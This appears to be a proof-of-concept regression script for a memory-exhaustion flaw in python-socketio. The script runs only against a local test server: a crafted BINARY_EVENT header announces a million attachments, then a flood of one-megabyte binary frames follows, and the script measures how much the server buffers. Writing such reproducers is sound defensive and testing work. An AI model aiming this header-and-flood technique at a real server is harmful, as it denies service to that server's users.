"""A connected client can make python-socketio buffer binary attachments without limit.

A BINARY_EVENT header announces its attachment count (Packet.decode accepts up to ten
digits); AsyncServer._handle_eio_message() then appends every following binary message
to the pending packet until the announced count is reached. Each message is held to
max_http_buffer_size (1 MB by default), their total is not. Since 5.16.2 the client must
be connected to the namespace first; once connected it can still make one server hold
as much memory as it sends.

The client here connects, announces 1,000,000 attachments, and sends 48 binary messages
of 1,000,000 bytes. The server's RSS (same process; freed memory trimmed first) is read from /proc.
Exit status 1: defect present; 0: fixed.
"""

import asyncio
import ctypes
import gc
import sys

import socketio
import uvicorn
from websockets.asyncio.client import connect

FRAMES, FRAME_BYTES = 48, 1_000_000


def rss_mib():
    gc.collect()
    ctypes.CDLL("libc.so.6").malloc_trim(0)  # glibc: give freed memory back first
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


async def serve(app):
    config = uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning", lifespan="off")
    server = uvicorn.Server(config)
    task = asyncio.create_task(server.serve())
    for _ in range(100):
        if server.started:
            break
        await asyncio.sleep(0.05)
    return server, task, server.servers[0].sockets[0].getsockname()[1]


async def main():
    sio = socketio.AsyncServer(async_mode="asgi")
    sio.on("connect", lambda sid, environ, auth: True)
    server, task, port = await serve(socketio.ASGIApp(sio))
    try:
        url = f"ws://127.0.0.1:{port}/socket.io/?EIO=4&transport=websocket"
        async with connect(url, ping_interval=None, open_timeout=5, max_size=None) as ws:
            await asyncio.wait_for(ws.recv(), 5)  # Engine.IO OPEN
            await ws.send("40")
            await asyncio.wait_for(ws.recv(), 5)  # Socket.IO CONNECT answer
            chunk = bytes(FRAME_BYTES)
            before = rss_mib()
            await ws.send('451000000-["upload",{"_placeholder":true,"num":0}]')
            for _ in range(FRAMES):
                await ws.send(chunk)
            await asyncio.sleep(1.0)  # let the server take them all
            grown = rss_mib() - before
            buffered = sum(len(a) for p in sio._binary_packet.values() for a in p.attachments)
            print(f"sent {FRAMES} binary messages of {FRAME_BYTES:,} bytes after a header "
                  "announcing 1,000,000 attachments")  # fmt: skip
            print(f"server buffers {buffered:,} bytes for this client; RSS grew {grown:.0f} MiB")
    finally:
        server.should_exit = True
        await asyncio.wait_for(task, 10)
    broken = buffered > 2 * FRAME_BYTES
    print("RESULT:", "defect reproduced" if broken else "behaves correctly")
    return 1 if broken else 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
